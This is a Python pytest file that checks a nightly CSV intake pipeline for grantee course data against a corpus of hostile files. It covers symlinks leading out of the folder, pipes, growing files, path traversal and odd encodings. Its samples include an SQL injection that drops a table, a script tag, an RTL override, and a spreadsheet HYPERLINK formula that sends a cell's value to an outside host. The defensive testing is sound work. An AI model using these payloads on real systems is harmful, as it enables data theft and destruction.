"""Does each hostile file get a clear answer, at no cost to its lines, to its neighbors or to the night?

All of them come in one night, beside good files of other grantees.
"""

from __future__ import annotations

import os
import shutil
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hostile import YEAR, Became, Hostile, good, text_file
from hostile_forms import form_cases
from hostile_text import text_cases
from intake_example import Example

from pipelines.grantee import OWN_FOLDER

TARGET, NEIGHBORS = "target_college", ("college_before", "zz_college_after")
LONGEST_MESSAGE = 2_500
GRANTEES = Path(__file__).parent / "grantees"


@cache
def corpus() -> tuple[Hostile, ...]:
    """Return the whole corpus."""
    return (*text_cases(), *form_cases())


GROWING = f"course_{YEAR}_growing.csv"
STRAYS = {
    "folder.csv/": "move its files up",
    "leads-out.csv": "leads out of the grantee's folder is not followed",
    "leads-nowhere.csv": "leads to no file",
    "circle.csv": "leads to no file",
    "pipe.csv": "which may never end",
}


def _put_what_is_no_file(folder: Path, secret: Path) -> None:
    """Lay down what lies in a folder beside files: folders, links, pipes, and a name that is no text."""
    (folder / "folder.csv").mkdir()
    (folder / "leads-out.csv").symlink_to(secret)
    (folder / "leads-nowhere.csv").symlink_to(folder / "nothing")
    (folder / "circle.csv").symlink_to(folder / "circle.csv")
    os.mkfifo(folder / "pipe.csv")
    Path(os.fsdecode(os.fsencode(folder / "course_") + b"\xff.csv")).write_bytes(text_file(good("no text")))


@contextmanager
def _growing(path: Path) -> Iterator[None]:
    """Let a file grow whenever the archive writes its copy to the disk: that is while it reads a file, each time."""
    path.write_bytes(text_file(good("growing")))
    fsync = os.fsync

    def grow(descriptor: int) -> None:
        with path.open("ab") as file:
            file.write(b"C1,2023-24,FA,W0998,Welding,C\n")
        fsync(descriptor)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(os, "fsync", grow)
        yield


@dataclass(frozen=True)
class Night:
    """What the ledger says after the night, by file name, and what the operator was told."""

    example: Example
    submissions: dict[str, dict[str, Any]]
    reasons: dict[str, Counter[str]]
    said: str


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Night]:
    root = tmp_path_factory.mktemp("hostile")
    for name in (TARGET, *NEIGHBORS):
        shutil.copytree(GRANTEES / TARGET, root / "own" / name)
        path = root / "own" / name / "grantee.toml"
        path.write_text(path.read_text(encoding="utf-8").replace(TARGET, name), encoding="utf-8")
    example = Example(root)
    for neighbor in NEIGHBORS:
        for number in range(3):
            name = f"course_{YEAR}_good{number}.csv"
            example.put(name, text_file(good(f"{neighbor} {number}")), grantee=neighbor)
    for one in corpus():
        example.put(one.file_name, one.content, grantee=TARGET)
    folder = root / "inbox" / TARGET / YEAR
    (root / "secret.csv").write_bytes(text_file(good("of another grantee")))
    _put_what_is_no_file(folder, root / "secret.csv")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(OWN_FOLDER, str(root / "own"))
        with _growing(folder / GROWING):
            example.night()
        yield _told(example)


def _told(example: Example) -> Night:
    names = ("file_name", "status", "message", "physical_line_count", "header_line_count", "loaded_line_count",
             "loaded_row_count", "quarantined_line_count")  # fmt: skip
    rows = example.rows(f"select {', '.join(names)} from quality.submission where grantee_id = '{TARGET}'")
    reasons: dict[str, Counter[str]] = {}
    for name, reason, count in example.rows(
        "select file_name, reason_code, cast(sum(line_count) as integer) from quality.quarantine group by all"
    ):
        reasons.setdefault(name, Counter())[reason] += count
    by_name = {row[0]: dict(zip(names, row, strict=True)) for row in rows}
    return Night(example, by_name, reasons, "\n".join(example.said))


def _name(one: Hostile, became: Became) -> str:
    return "".join(c if c.isprintable() else "?" for c in one.file_name) + became.inside


def _answers() -> list[Any]:
    return [
        pytest.param(one, became, id=(one.name + became.inside).replace(" ", "-"))
        for one in corpus()
        for became in one.became
    ]


def test_the_corpus_is_large_and_no_two_files_are_the_same() -> None:
    assert len(corpus()) >= 100
    assert len({one.file_name for one in corpus()}) == len({one.name for one in corpus()}) == len(corpus())
    assert len({one.content for one in corpus()}) >= len(corpus()) - 1


@pytest.mark.parametrize(("one", "became"), _answers())
def test_each_hostile_file_gets_its_answer(night: Night, one: Hostile, became: Became) -> None:
    name = _name(one, became)
    assert name in night.submissions, sorted(n for n in night.submissions if n.startswith(one.file_name[:20]))
    found = night.submissions[name]
    reasons = night.reasons.get(name, Counter())
    assert (found["status"], found["loaded_row_count"]) == (became.status, became.rows), found["message"]
    assert became.rule in reasons if became.rule else not reasons, reasons
    assert set(reasons) == {became.rule} or became.status != "read" or not reasons, reasons
    message = (found["message"] or "").casefold()
    assert [word for word in became.words if word.casefold() not in message] == [], found["message"]
    assert became.status == "read" or message, "a refusal says why"
    assert len(message) < LONGEST_MESSAGE


@pytest.mark.parametrize(("one", "became"), _answers())
def test_no_line_of_a_hostile_file_is_lost(night: Night, one: Hostile, became: Became) -> None:
    found = night.submissions[_name(one, became)]
    accounted = found["header_line_count"] + found["loaded_line_count"] + found["quarantined_line_count"]
    assert found["physical_line_count"] == accounted
    if became.lines is not None:
        assert found["physical_line_count"] == became.lines


def test_the_good_files_of_the_neighbors_are_all_there(night: Night) -> None:
    assert night.example.rows(
        f"select grantee_id, count(*) from core.course where grantee_id <> '{TARGET}' group by 1 order by 1"
    ) == [(neighbor, 90) for neighbor in sorted(NEIGHBORS)]


def test_every_file_was_answered_and_the_operator_told_of_each(night: Night) -> None:
    missing = [one.name for one in corpus() if not any(n.startswith(_name(one, Became(""))) for n in night.submissions)]
    assert missing == []
    assert [n for n, s in night.submissions.items() if s["status"] == "refused" and n not in night.said] == []


def test_no_line_of_the_log_is_forged(night: Night) -> None:
    assert all("\n" not in line and "\x1b" not in line for line in night.example.said)


def test_nothing_unpacked_stays_behind_and_nothing_leads_out(night: Night) -> None:
    assert [p for p in (night.example.home / "tmp").rglob("*") if p.is_file()] == []
    assert not Path("/evil.csv").exists()
    assert list(night.example.root.rglob("evil.csv")) == []


EXACT = {
    "quoted newline": "Weld\ning",
    "quoted return and newline": "Weld\r\ning",
    "quoted delimiter": "Weld, fuse",
    "doubled quotes": 'Weld "MIG" ing',
    "quote inside of a plain value": '6" pipe',
    "backslash before a quote": 'Weld \\" x',
    "typographic quotes": "“Weld”",
    "a formula": '=HYPERLINK("http://x.example/?"&A1,"Welding")',
    "a mark that turns the writing": "\u202egnidleW",
    "an SQL statement": "x'); drop table core.course; --",
    "markup": "<script>alert(1)</script>",
    "formulas in a sheet": "0",
    "dates in a sheet": "2024-05-01",
    "numbers as text and text as numbers": "12345",
    "letters of two bytes": "José Peña",
    "a quote in fixed width": 'Wel"ding',
    "a JSON object in a value": '{"en": "Welding"}',
    "a JSON null": None,
}


@pytest.mark.parametrize("name", EXACT)
def test_what_is_read_is_read_exactly(night: Night, name: str) -> None:
    (one,) = (one for one in corpus() if one.name == name)
    place = _name(one, one.became[0])
    assert night.example.rows(
        "select course_title from core.course inner join quality.submission using (submission_id) "
        f"where file_name = '{place}' and course_id in ('W0999', '999')"
    ) == [(EXACT[name],)]


def test_a_code_that_only_looks_right_is_told_and_no_code(night: Night) -> None:
    rows = night.example.rows(
        "select file_name, credit_status, unreadable_columns from core.course inner join quality.submission "
        "using (submission_id) where course_id = 'W0999' and unreadable_columns <> '' order by 1"
    )
    told = {name.partition(f"{YEAR}_")[2]: (code, unreadable) for name, code, unreadable in rows}
    assert told["a-homoglyph-in-a-code.csv"] == (None, ",credit_status,")
    assert told["a-date-as-a-number.csv"][1] == ",term_code,"


def test_nobody_is_made_of_a_placeholder_and_no_number_of_a_text(night: Night) -> None:
    people = night.example.rows(
        "select count(*), count(student_id), count(distinct student_id) from core.enrollment "
        "inner join quality.submission using (submission_id) where file_name like '%identifiers-of-all-kinds%'"
    )
    assert people == [(8, 4, 4)]  # of the eight texts, four are placeholders or blank
    tried = night.example.rows(
        "select credits_attempted, unreadable_columns like '%,credits_attempted,%' from core.enrollment "
        "inner join quality.submission using (submission_id) where file_name like '%credits-of-all-kinds%' "
        "order by line_number"
    )
    assert [None if one is None else float(one) for one, _ in tried] == [3, 3, None, None, -1, 3.5, *[None] * 4]
    assert all((one is None) == is_told for one, is_told in tried)


def test_a_file_that_grows_while_it_is_read_is_refused_until_it_is_whole(night: Night) -> None:
    found = night.submissions[GROWING]
    assert (found["status"], found["loaded_row_count"]) == ("refused", 0)
    assert found["physical_line_count"] == found["quarantined_line_count"]
    assert set(night.reasons[GROWING]) == {"file_readable"}
    assert "send it again when it is complete" in found["message"]
    assert night.example.rows("select count(*) from core.course where course_id = 'W0998'") == [(0,)]


@pytest.mark.parametrize(("place", "words"), STRAYS.items(), ids=[name.strip("/") for name in STRAYS])
def test_what_is_no_file_is_told_and_never_opened(night: Night, place: str, words: str) -> None:
    assert any(place in line and words in line for line in night.example.said)
    assert place not in night.submissions


def test_a_link_brings_no_file_of_others_in(night: Night) -> None:
    assert night.example.rows("select count(*) from core.course where course_title like '%another-grantee%'") == [(0,)]


def test_a_name_that_is_no_text_is_answered_under_one_that_is(night: Night) -> None:
    assert night.submissions["course_?.csv"]["status"] == "refused"


def test_the_second_night_takes_in_the_file_that_has_stopped_growing_and_no_other(night: Night) -> None:
    again = night.example.night()
    assert [(s.file_name, s.status) for s in again.submissions] == [(GROWING, "read")]


def test_no_case_depends_on_the_time_of_day() -> None:
    assert [one.content for one in (*text_cases(), *form_cases())] == [one.content for one in corpus()]
    assert os.sep not in "".join(one.file_name for one in corpus())
